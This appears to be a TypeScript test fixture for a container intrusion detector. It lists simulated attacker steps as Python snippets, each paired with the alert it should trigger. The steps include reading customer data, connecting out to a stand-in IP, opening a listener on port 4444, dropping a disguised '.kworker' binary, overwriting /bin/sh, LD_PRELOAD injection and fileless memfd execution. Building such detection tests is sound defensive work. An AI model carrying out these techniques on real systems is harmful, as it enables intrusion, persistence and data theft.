/** One move of the intruder: what people are told, what is sent to the service, and the finding it must raise. */
export interface Move {
  readonly title: string;
  /** Python, which the service runs. */
  readonly code: string;
  readonly expects: string;
}

const read = (path: string): string => `open("${path}", "rb").read()`;
const drop = (path: string, bytes: string): string =>
  `open("${path}", "wb").write(${bytes}); os.chmod("${path}", 0o755)`;
const run = (path: string, ...words: readonly string[]): string =>
  `os.spawnv(os.P_WAIT, "${path}", ${JSON.stringify(words)})`;

/**
 * The intruder sends code to a service that has a hole. The image is hardened: there is hardly a tool to find, so it brings its
 * own, or lives off the land. Nothing here harms more than the container.
 */
export const moves: readonly Move[] = [
  {
    title: 'reads the customers’ data on a volume, which the service never does',
    code: read('/data/customers.csv'),
    expects: 'file-not-in-profile',
  },
  {
    title: 'sends them away',
    code: 's = socket.socket(); s.settimeout(0.2)\ntry: s.connect(("203.0.113.9", 443))\nexcept OSError: pass',
    expects: 'connection-not-in-profile',
  },
  {
    title: 'opens a port to come back by',
    code: 's = socket.socket(); s.bind(("0.0.0.0", 4444)); s.listen(); s.close()',
    expects: 'listen-not-in-profile',
  },
  {
    title: 'starts the shell that the image needs to start',
    code: run('/bin/sh', 'sh', '-c', 'exit'),
    expects: 'process-other-parent',
  },
  {
    title: 'drops a program into /tmp and runs it',
    code: `${drop('/tmp/.kworker', `${read('/bin/sh')} + b"mined"`)}; ${run('/tmp/.kworker', 'kworker', '-c', 'exit')}`,
    expects: 'exec-not-in-image',
  },
  {
    title: 'replaces a system program and waits for it to be run',
    code: `${drop('/bin/sh', read('/tmp/.kworker'))}; ${run('/bin/sh', 'sh', '-c', 'exit')}`,
    expects: 'exec-modified',
  },
  {
    title: 'loads a library of its own into an honest program',
    code: `${drop('/tmp/libhook.so', `${read('/lib/x86_64-linux-gnu/libz.so.1')} + b"hooked"`)}
os.spawnve(os.P_WAIT, "/usr/bin/python3", ["python3", "-c", "0"], {"LD_PRELOAD": "/tmp/libhook.so"})`,
    expects: 'library-not-in-image',
  },
  {
    title: 'runs a program that no file holds (memfd)',
    code: `f = os.memfd_create("kdevtmpfs"); os.write(f, ${read('/tmp/.kworker')} + b"fileless")
os.spawnv(os.P_WAIT, f"/proc/{os.getpid()}/fd/{f}", ["kdevtmpfs", "-c", "exit"]); os.close(f)`,
    expects: 'exec-from-memory',
  },
  {
    title: 'runs a script that lies on a mounted volume',
    code: run('/usr/bin/python3', 'python3', '/data/collect.py'),
    expects: 'script-from-volume',
  },
];

/** What lies on the volume. */
export const volume: Readonly<Record<string, string>> = {
  'collect.py': 'print(sorted(__import__("os").listdir("/data")))\n',
  'customers.csv': 'name,card\nAda,4111 1111 1111 1111\n',
};
